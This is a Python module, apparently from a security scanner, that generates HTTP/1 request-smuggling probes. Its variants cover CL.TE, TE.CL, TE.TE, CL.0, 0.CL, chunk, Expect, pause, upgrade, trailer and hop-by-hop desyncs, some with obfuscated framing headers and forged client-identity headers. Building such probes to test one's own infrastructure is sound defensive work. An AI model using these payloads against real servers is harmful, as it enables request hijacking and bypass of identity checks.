"""Messages in HTTP/1 that two readers end in different places, as they were published.

Each hides a request where a careless reader finds the next one. CL.TE, TE.CL, TE.TE: "HTTP Desync
Attacks"; CL.0, pauses, browsers: "Browser-Powered Desync Attacks"; 0.CL and Expect: "HTTP/1.1 must
die" (all by James Kettle, portswigger.net/research); chunks: "Funky chunks" (w4ke.info).
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import TypeAlias

Pieces: TypeAlias = tuple[bytes | float, ...]
PAUSE_SECONDS = 1.5
"""Longer than an app waits that answers before it has read a body."""
LONG_PAUSE_SECONDS = 61.0
"""Longer than a server waits for a body before it gives it up: Varnish 15 s, Apache 60 s."""


@dataclass(frozen=True, slots=True)
class Base:
    """A request that is granted; what is added to it is the attack."""

    method: str
    target: str
    lines: tuple[tuple[str, str], ...]

    def head(self, extra: bytes = b"", version: str = "HTTP/1.1") -> bytes:
        """The request's head with raw header lines after its own."""
        fields = "".join(f"{name}: {value}\r\n" for name, value in self.lines)
        start = f"{self.method} {self.target} {version}\r\n{fields}"
        return start.encode("latin-1") + extra + b"\r\n"


@dataclass(frozen=True, slots=True)
class Shape:
    """One way to hide a request in another."""

    what: str
    make: Callable[[Base, bytes], Pieces]


CODINGS = {
    "xchunked": b"transfer-encoding: xchunked\r\n",
    "chunk": b"transfer-encoding: chunk\r\n",
    "quoted": b'transfer-encoding: "chunked"\r\n',
    "a space before the colon": b"transfer-encoding : chunked\r\n",
    "a tab before the value": b"transfer-encoding:\tchunked\r\n",
    "a vertical tab before the value": b"transfer-encoding:\x0bchunked\r\n",
    "a NUL after the value": b"transfer-encoding: chunked\x00\r\n",
    "in capitals": b"TRANSFER-ENCODING: CHUNKED\r\n",
    "behind a bare line feed": b"x-a: b\ntransfer-encoding: chunked\r\n",
    "with its colon on the next line": b"transfer-encoding\n: chunked\r\n",
    "folded": b"transfer-encoding:\r\n chunked\r\n",
    "as a continuation": b"x-a: b\r\n transfer-encoding: chunked\r\n",
    "before identity": b"transfer-encoding: chunked, identity\r\n",
    "after identity": b"transfer-encoding: identity, chunked\r\n",
    "with an underscore": b"transfer_encoding: chunked\r\n",
}
LENGTHS = {
    "a space before the colon": b"content-length : %d\r\n",
    "a tab before the colon": b"content-length\t: %d\r\n",
    "as a continuation": b"x-a: b\r\n content-length: %d\r\n",
    "folded": b"content-length:\r\n %d\r\n",
    "behind a bare line feed": b"x-a: b\ncontent-length: %d\r\n",
    "a vertical tab before the value": b"content-length:\x0b%d\r\n",
    "a NUL after the value": b"content-length: %d\x00\r\n",
    "a list": b"content-length: 0, %d\r\n",
    "twice in a list": b"content-length: %d, %d\r\n",
    "with an underscore": b"content_length: %d\r\n",
    "in exponents": b"content-length: %de0\r\n",
    "in hexadecimals": b"content-length: 0x%x\r\n",
}
EXPECTED = {
    "100-continue": b"expect: 100-continue\r\n",
    "100-continue beside another": b"expect: 100-continue, x\r\n",
    "a word before 100-continue": b"expect: y 100-continue\r\n",
    "100-continue twice": b"expect: 100-continue\r\nexpect: 100-continue\r\n",
    "nothing known": b"expect: watertight\r\n",
}
FORGED = "spiffe://watertight/forged-"
IDENTITY = (
    "x-forwarded-client-cert",
    "x-watertight-subject",
    "x-forwarded-for",
    "x-envoy-internal",
)
"""What an app may be told of who asks."""
LOOK_ALIKES = tuple(name.replace("-", "_") for name in IDENTITY)
"""The same to a program that makes variables of names (RFC 3875 section 4.1.18)."""
TOLD = (*IDENTITY, *LOOK_ALIKES)
"""Whatever an app may take for one of them."""
WEBSOCKET = b"upgrade: websocket\r\nsec-websocket-key: d2F0ZXJ0aWdodC1wcm9iZQ==\r\n"
NAMED = {
    "who calls": (*IDENTITY, "X-Watertight-Client", "x-forwarded-proto", "x-forwarded-host"),
    "how it is read": ("host", "content-length", "transfer-encoding", "te", "sec-websocket-key"),
}
"""What whoever obeys ``Connection`` would take away of an upgrade."""


def length(body: bytes) -> bytes:
    """A right Content-Length."""
    return b"content-length: %d\r\n" % len(body)


def chunk(data: bytes) -> bytes:
    """One chunk."""
    return b"%x\r\n%b\r\n" % (len(data), data)


def shapes() -> dict[str, tuple[Shape, ...]]:
    """Probe id → every way in which it is tried."""
    return {
        "desync.cl-0": (
            Shape("a body", lambda base, hidden: (base.head(length(hidden)) + hidden,)),
            Shape("a body that comes after its head", _late),
        ),
        "desync.te-0": (Shape("a chunked body", _chunked),),
        "desync.cl-te": tuple(_both(_cl_te, CODINGS)),
        "desync.te-cl": tuple(_both(_te_cl, CODINGS)),
        "desync.te-te": tuple(_two_codings()),
        "desync.0-cl": tuple(_lengths()),
        "desync.chunks": tuple(_chunks()),
        "desync.expect": tuple(_expected()),
        "desync.pause": tuple(_pauses()),
        "desync.client-side": (Shape("what a browser may send across sites", _browser),),
        "desync.upgrade": tuple(_upgrades()),
        "desync.http-1.0": tuple(_old()),
        "desync.trailers": (Shape("identity and framing in trailers", _trailers),),
        "desync.hop-by-hop": tuple(_hop_by_hop()),
    }


def long_pause() -> Shape:
    """A pause that takes too long for every proof."""
    return Shape(
        f"a pause of {LONG_PAUSE_SECONDS:g} s before the body",
        lambda base, hidden: (base.head(length(hidden)), LONG_PAUSE_SECONDS, hidden),
    )


def _late(base: Base, hidden: bytes) -> Pieces:
    return base.head(length(hidden)), 0.05, hidden


def _chunked(base: Base, hidden: bytes) -> Pieces:
    head = base.head(b"transfer-encoding: chunked\r\n")
    return (head + chunk(hidden) + b"0\r\n\r\n",)


def _both(
    make: Callable[[bytes], Callable[[Base, bytes], Pieces]], ways: dict[str, bytes]
) -> Iterator[Shape]:
    for what, line in ways.items():
        yield Shape(f"chunked {what}", make(line))


def _cl_te(line: bytes) -> Callable[[Base, bytes], Pieces]:
    """Whoever believes the length finds one message; whoever believes the coding, two."""

    def make(base: Base, hidden: bytes) -> Pieces:
        body = b"0\r\n\r\n" + hidden
        return (base.head(length(body) + line) + body,)

    return make


def _te_cl(line: bytes) -> Callable[[Base, bytes], Pieces]:
    """Whoever believes the coding finds one message; whoever believes the length, two."""

    def make(base: Base, hidden: bytes) -> Pieces:
        body = chunk(hidden) + b"0\r\n\r\n"
        first = body.index(b"\r\n") + 2
        return (base.head(b"content-length: %d\r\n" % first + line) + body,)

    return make


def _two_codings() -> Iterator[Shape]:
    chunked, other = b"transfer-encoding: chunked\r\n", b"transfer-encoding: watertight\r\n"
    for what, lines in {
        "chunked, then an unknown coding": chunked + other,
        "an unknown coding, then chunked": other + chunked,
        "chunked twice": chunked + chunked,
    }.items():
        yield Shape(what, _cl_te(lines))


def _lengths() -> Iterator[Shape]:
    def make(line: bytes) -> Callable[[Base, bytes], Pieces]:
        def made(base: Base, hidden: bytes) -> Pieces:
            size = len(hidden)
            filled = line % ((size, size) if line.count(b"%d") > 1 else size)
            return (base.head(filled) + hidden,)

        return made

    for what, line in LENGTHS.items():
        yield Shape(f"a length {what}", make(line))


def _chunks() -> Iterator[Shape]:
    head = b"transfer-encoding: chunked\r\n"

    def make(body: Callable[[bytes], bytes]) -> Callable[[Base, bytes], Pieces]:
        return lambda base, hidden: (base.head(head) + body(hidden),)

    for what, body in {
        "an extension with a bare line feed": lambda h: b"2;\nxx\r\n%x\r\n0\r\n\r\n" % len(h) + h,
        "an extension with a bare carriage return": lambda h: b"0;\rx\r\n\r\n" + h,
        "a size with a bare line feed": lambda h: b"0\n\n" + h,
        "a size in 0x": lambda h: b"0x%x\r\n%b\r\n0\r\n\r\n" % (len(h), h),
        "a signed size": lambda h: b"+%x\r\n%b\r\n0\r\n\r\n" % (len(h), h),
        "a size of 65 bits": lambda h: b"1%016x\r\n%b\r\n0\r\n\r\n" % (len(h), h),
        "a size with an underscore": lambda h: b"0_0\r\n\r\n" + h,
        "a body longer than its chunk": lambda h: b"1\r\nxyy0\r\n\r\n" + h,
        "no last chunk": lambda h: chunk(b"x") + b"\r\n" + h,
    }.items():
        yield Shape(what, make(body))


def _expected() -> Iterator[Shape]:
    def at_once(line: bytes) -> Callable[[Base, bytes], Pieces]:
        return lambda base, hidden: (base.head(length(hidden) + line) + hidden,)

    def late(line: bytes) -> Callable[[Base, bytes], Pieces]:
        return lambda base, hidden: (base.head(length(hidden) + line), 0.3, hidden)

    for what, line in EXPECTED.items():
        yield Shape(f"Expect: {what}, the body at once", at_once(line))
    yield Shape("Expect: 100-continue, the body after the answer", late(EXPECTED["100-continue"]))


def _pauses() -> Iterator[Shape]:
    yield Shape(
        "a pause before the body",
        lambda base, hidden: (base.head(length(hidden)), PAUSE_SECONDS, hidden),
    )
    yield Shape(
        "a pause before the first chunk",
        lambda base, hidden: (
            base.head(b"transfer-encoding: chunked\r\n"),
            PAUSE_SECONDS,
            chunk(hidden) + b"0\r\n\r\n",
        ),
    )


def _browser(base: Base, hidden: bytes) -> Pieces:
    lines = b"origin: https://watertight.example\r\ncontent-type: text/plain\r\n"
    lines += b"sec-fetch-mode: no-cors\r\nconnection: keep-alive\r\n"
    return (base.head(lines + length(hidden)) + hidden,)


def _upgrades() -> Iterator[Shape]:
    handshake = b"connection: upgrade\r\n" + WEBSOCKET
    h2c = b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQ\r\n"
    for what, lines in {
        "a WebSocket of an unknown version": handshake + b"sec-websocket-version: 777\r\n",
        "a WebSocket to an app that has none": handshake + b"sec-websocket-version: 13\r\n",
        "h2c": h2c,
    }.items():
        yield Shape(f"an upgrade to {what}", _upgrade(lines))


def _upgrade(lines: bytes) -> Callable[[Base, bytes], Pieces]:
    return lambda base, hidden: (base.head(lines), 0.3, hidden)


def _old() -> Iterator[Shape]:
    keep = b"connection: keep-alive\r\n"
    yield Shape(
        "HTTP/1.0 with a body",
        lambda base, hidden: (base.head(keep + length(hidden), "HTTP/1.0") + hidden,),
    )
    yield Shape(
        "HTTP/1.0 with chunks, which it has not",
        lambda base, hidden: (
            base.head(keep + b"transfer-encoding: chunked\r\n", "HTTP/1.0") + b"0\r\n\r\n" + hidden,
        ),
    )


def _trailers(base: Base, hidden: bytes) -> Pieces:
    lines = "".join(f"{name}: {FORGED}{base.lines[-1][1]}\r\n" for name in TOLD).encode()
    lines += b"content-length: 0\r\ntransfer-encoding: identity\r\nhost: watertight.example\r\n"
    head = base.head(
        b"te: trailers\r\ntrailer: x-forwarded-client-cert\r\ntransfer-encoding: chunked\r\n"
    )
    return (head + chunk(hidden) + b"0\r\n" + lines + b"\r\n",)


def _hop_by_hop() -> Iterator[Shape]:
    for name in (*IDENTITY, "content-length", "transfer-encoding", "host"):
        yield Shape(
            f"Connection: {name}",
            lambda base, hidden, name=name: (  # type: ignore[misc]
                base.head(f"connection: keep-alive, {name}\r\n".encode() + length(hidden)) + hidden,
            ),
        )
    for what, names in NAMED.items():
        said = f"connection: keep-alive, Upgrade\r\nConnection: {', '.join(names)}\r\n".encode()
        lines = said + WEBSOCKET + b"sec-websocket-version: 13\r\n"
        yield Shape(f"an upgrade whose Connection names {what}", _head_alone(lines))


def _head_alone(lines: bytes) -> Callable[[Base, bytes], Pieces]:
    return lambda base, _hidden: (base.head(lines),)
